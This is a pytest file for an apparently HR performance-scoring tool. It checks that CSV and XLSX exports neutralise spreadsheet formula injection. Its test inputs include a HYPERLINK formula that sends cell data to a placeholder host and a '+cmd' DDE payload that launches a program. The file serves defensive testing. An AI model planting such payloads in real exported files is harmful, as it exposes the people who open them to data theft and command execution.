"""Data never becomes a spreadsheet formula: names such as =HYPERLINK(…), +cmd|…, @SUM(…), -2+3
are written as text in every CSV (apostrophe prefix) and every XLSX (string cells)."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest

from csperf.cli.main import main
from csperf.exports.cells import csv_text, workbook, write_cell
from csperf.reports.tables import Table, csv_response, xlsx_bytes

NASTY = [
    '=HYPERLINK("http://x/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "-2+3",
    "\t=1+1",
    "＝1+1",  # a full-width equals sign, which WPS also evaluates
]


@pytest.mark.parametrize("text", NASTY)
def test_csv_text_is_never_a_formula(text):
    assert csv_text(text) == "'" + text
    assert csv_text("王芳") == "王芳" and csv_text(-2) == -2 and csv_text(None) == ""


def _cells(data: bytes) -> list[openpyxl.cell.Cell]:
    wb = openpyxl.load_workbook(io.BytesIO(data))
    return [c for ws in wb.worksheets for row in ws.iter_rows() for c in row if c.value is not None]


def test_report_tables_write_text_cells_and_safe_csv():
    table = Table(title="t", columns=["name", "n"], rows=[[t, 1] for t in NASTY])
    cells = _cells(xlsx_bytes([table]))
    texts = {c.value for c in cells if c.data_type == "s"}
    assert set(NASTY) <= texts
    assert not [c for c in cells if c.data_type == "f"]
    body = csv_response(table, "t").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))
    assert [r[0] for r in rows[1:]] == ["'" + t for t in NASTY]


def test_write_cell_keeps_numbers_numbers():
    buf = io.BytesIO()
    wb = workbook(buf)
    ws = wb.add_worksheet()
    write_cell(ws, 0, 0, "=1+1")
    write_cell(ws, 0, 1, 3.5)
    write_cell(ws, 0, 2, None)
    wb.close()
    a, b = _cells(buf.getvalue())
    assert (a.value, a.data_type) == ("=1+1", "s") and (b.value, b.data_type) == (3.5, "n")


def test_csperf_score_xlsx_writes_names_as_text(tmp_path):
    card = tmp_path / "card.yaml"
    card.write_text(
        "code: t\nversion: 1\nname: 测试\nperiod: month\nsections:\n  - code: s\n    items:\n"
        "      - {code: a, name: '=1+1', value: a, points: 10, rule: {type: linear, points: [[0, 0], [10, 10]]}}\n",
        encoding="utf-8",
    )
    data = {
        "period": "2026-03",
        "employees": [{"id": "E1", "name": name, "values": {"a": 5}} for name in NASTY[:4]],
    }
    data["employees"] = [{**e, "id": f"E{i}"} for i, e in enumerate(data["employees"])]
    inp = tmp_path / "in.json"
    inp.write_text(json.dumps(data), encoding="utf-8")
    out = tmp_path / "out.xlsx"
    assert main(["score", str(card), "--input", str(inp), "--format", "xlsx", "-o", str(out)]) == 0
    cells = _cells(out.read_bytes())
    assert not [c for c in cells if c.data_type == "f"]
    assert set(NASTY[:4]) <= {c.value for c in cells}


def test_import_problem_report_quotes_cells_as_text(db, client, personas):
    """The problems CSV of an import quotes the file's own cells: never as formulas."""
    from csperf.core.models import Job
    from csperf.org.models import Membership, Role
    from csperf.records_ui.actions import KIND

    Membership.objects.get_or_create(user=personas["hr"], role=Role.HR)
    problems = [{"file": t, "row": 2, "column": "agent", "message": t} for t in NASTY]
    job = Job.objects.create(kind=KIND, status=Job.Status.FAILED, result={"problems": problems})
    client.force_login(personas["hr"])
    body = client.get(f"/records/imports/{job.pk}/problems.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(body)))[1:]
    assert [r[0] for r in rows] == ["'" + t for t in NASTY]
    assert [r[3] for r in rows] == ["'" + t for t in NASTY]


def test_printable_card_writes_the_name_as_text(world, client):
    emp = world.employees["agent"]
    emp.name = NASTY[0]
    emp.save(update_fields=["name"])
    client.force_login(world.users["hr"])
    data = client.get(f"/cards/{world.card('agent').pk}/export.xlsx").content
    cells = [c for c in _cells(data) if isinstance(c.value, str) and NASTY[0] in c.value]
    assert cells and all(c.data_type == "s" for c in cells)


def test_indicator_exports_of_the_cli_write_text():
    from csperf.cli.records import to_csv, to_xlsx

    rows = [{"employee": t, "n": 1} for t in NASTY]
    body = to_csv(rows, ["employee", "n"])
    assert [r[0] for r in list(csv.reader(io.StringIO(body)))[1:]] == ["'" + t for t in NASTY]
    cells = _cells(to_xlsx(rows, ["employee", "n"], ["员工", "n"], "t"))
    assert {c.value for c in cells if c.column == 1 and c.row > 3} <= set(NASTY) | {None}
    assert all(c.data_type == "s" for c in cells if c.value in NASTY)
